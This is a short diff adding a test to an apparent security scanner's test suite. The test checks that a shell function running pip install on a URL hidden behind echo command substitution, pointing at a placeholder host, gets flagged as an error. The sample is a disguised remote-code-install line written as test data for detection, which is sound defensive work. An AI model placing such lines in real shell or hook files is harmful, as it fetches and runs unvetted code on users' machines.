@@ -74,3 +74,8 @@ def test_a_hook_printing_an_address_into_a_shell_is_code(tmp_path: Path) -> None
     setup = "#!/bin/sh\ninstall -m 0755 hooks/post-merge .git/hooks/post-merge\n"
     found = _severities(tmp_path, {"scripts/setup.sh": setup, "hooks/post-merge": hook})
     assert "error" in found
+
+
+def test_a_printed_address_handed_on_by_command_substitution_is_code(tmp_path: Path) -> None:
+    snippet = 'upd() { pip install --user "$(echo https://pkgs.lab.invalid/tools.tar.gz)"; }\n'
+    assert _rc(tmp_path, snippet) == ["error"]
